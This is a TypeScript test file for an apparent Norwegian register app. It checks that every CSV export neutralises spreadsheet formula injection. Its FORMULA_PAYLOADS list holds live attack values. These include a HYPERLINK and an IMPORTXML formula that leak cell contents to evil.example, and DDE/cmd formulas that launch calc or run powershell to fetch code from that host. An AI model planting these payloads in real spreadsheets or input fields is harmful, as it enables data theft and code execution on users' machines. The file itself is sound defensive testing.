// Replayed attack: formula injection through any text that reaches a CSV. Every text field of
// a register row (internal and public) is set to each payload; every column of every written
// file must come back as text that a spreadsheet will not run.
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { neutraliseCell, writeCsv } from '@/lib/pure/csv';
import { readyDossier } from '@/testing/fixtures/domain';
import { importTemplateCsv } from '@/lib/pure/import/template';
import { PUBLIC_CSV_HEADERS, publicRegisterCsv, REGISTER_CSV_HEADERS, registerCsv, tableCsv } from './csv';
import type { PublicRegisterRow } from './public';
import { registerRow, type RegisterRow } from './row';

export const FORMULA_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Klikk her")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=cmd|\' /C powershell IEX(wget evil.example)\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '-',
  '=',
  '+47 22 00 00 00',
  '@evil',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
  "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
];

const DANGEROUS_START = /^[=+\-@\t\r\n]/;
const NOW = new Date('2025-06-01T10:00:00Z');

function poisonedRegisterRow(payload: string): RegisterRow {
  const row = registerRow(readyDossier(), { kommunenummer: '4203', taskArea: 'Legevakt', isPublic: true }, NOW);
  // organisationNumber is validated as nine digits on the way in; poisoned here all the same.
  return { ...row, name: payload, legalForm: payload, organisationNumber: payload, taskArea: payload, hosts: [payload], members: [payload, 'Drammen'], sponsors: [payload] };
}

function poisonedPublicRow(payload: string): PublicRegisterRow {
  const row = poisonedRegisterRow(payload);
  return { id: row.id, name: payload, legalForm: payload, taskArea: payload, hosts: [payload], hostLabel: payload, members: [payload], state: row.state, startDate: row.startDate, lastEvaluation: row.lastEvaluation };
}

function cellsOf(csv: string): string[][] {
  return parse(csv, { bom: true, delimiter: ';', relax_column_count: false }) as string[][];
}

describe('CSV formula injection', () => {
  it.each(FORMULA_PAYLOADS)('the internal register CSV neutralises %j in every column', (payload) => {
    const rows = cellsOf(registerCsv([poisonedRegisterRow(payload)]));
    expect(rows[0]).toEqual([...REGISTER_CSV_HEADERS]);
    expect(rows[1]).toHaveLength(REGISTER_CSV_HEADERS.length);
    rows[1]!.forEach((cell, i) => expect(cell, `column ${REGISTER_CSV_HEADERS[i]}`).not.toMatch(DANGEROUS_START));
    // The payload itself is kept (behind the marker), so nothing is lost.
    expect(rows[1]![0]).toBe(`'${payload}`);
  });

  it.each(FORMULA_PAYLOADS)('the public register CSV neutralises %j in every column', (payload) => {
    const rows = cellsOf(publicRegisterCsv([poisonedPublicRow(payload)], 'https://brobygger.example'));
    expect(rows[0]).toEqual([...PUBLIC_CSV_HEADERS]);
    rows[1]!.forEach((cell, i) => expect(cell, `column ${PUBLIC_CSV_HEADERS[i]}`).not.toMatch(DANGEROUS_START));
    expect(rows[1]![4]).toBe(`'${payload}`); // Deltakere
  });

  it.each(FORMULA_PAYLOADS)('the open statistics CSV neutralises %j in every text column', (payload) => {
    const rows = cellsOf(tableCsv(['Kommune', 'Antall'], [[payload, 3], ['Agder', -1]]));
    expect(rows[1]![0]).toBe(`'${payload}`);
    // Numbers are numbers, not text: a negative count stays a number Excel can sum.
    expect(rows[2]).toEqual(['Agder', '-1']);
  });

  it('the import template CSV goes through the same writer', () => {
    const rows = cellsOf(importTemplateCsv());
    expect(rows).toHaveLength(1);
    rows[0]!.forEach((cell) => expect(cell).not.toMatch(DANGEROUS_START));
  });

  it('the writer guards any cell of any CSV, and leaves ordinary text and numbers alone', () => {
    const rows = cellsOf(writeCsv([['a', 'b', 'c'], ['=1+1', 'Drammen', -3], ['Bø i Telemark', '', null]]));
    expect(rows).toEqual([['a', 'b', 'c'], ["'=1+1", 'Drammen', '-3'], ['Bø i Telemark', '', '']]);
    expect(neutraliseCell('Drammen')).toBe('Drammen');
    expect(neutraliseCell('-1')).toBe("'-1");
  });

  it('no module but lib/pure/csv.ts writes CSV itself (so no CSV can skip the guard)', () => {
    const root = path.resolve(__dirname, '../../..');
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        if (name === 'node_modules' || name.startsWith('.') || name === 'test-results') continue;
        const full = path.join(dir, name);
        if (statSync(full).isDirectory()) walk(full);
        else if (/\.(ts|tsx|mjs|js)$/.test(name) && /from ['"]csv-stringify/.test(readFileSync(full, 'utf8'))) offenders.push(path.relative(root, full));
      }
    };
    for (const dir of ['app', 'lib', 'db', 'workflows', 'scripts']) walk(path.join(root, dir));
    expect(offenders).toEqual(['lib/pure/csv.ts']);
  });
});
